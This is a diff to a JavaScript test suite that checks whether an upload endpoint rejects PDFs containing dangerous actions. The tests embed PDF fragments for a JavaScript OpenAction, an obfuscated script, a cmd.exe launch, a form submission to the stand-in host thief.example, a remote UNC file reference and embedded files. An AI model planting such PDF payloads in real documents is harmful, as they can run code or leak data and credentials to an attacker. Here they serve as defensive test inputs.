@@ -317,6 +317,9 @@ describe('evidence', () => {
     ['a script', pdfWith('/OpenAction <</S /JavaScript /JS (app.alert(1))>>')],
     ['a hidden script', pdfWith('/AA <</S /J#61vaScript>>')],
     ['a program to start', pdfWith('/S /Launch /F (cmd.exe)')],
+    ['a form to send', pdfWith('/S /SubmitForm /F (https://thief.example)')],
+    ['a file elsewhere', pdfWith('/S /GoToR /F (\\\\thief.example\\a)')],
+    ['a file within it', pdfWith('/Names <</EmbeddedFiles 5 0 R>>')],
   ])('is refused as a PDF with %s', async (_what, content) => {
     const numberRef = await world.book();
     expect((await upload(numberRef, content)).body).toMatchObject({ code: 415 });
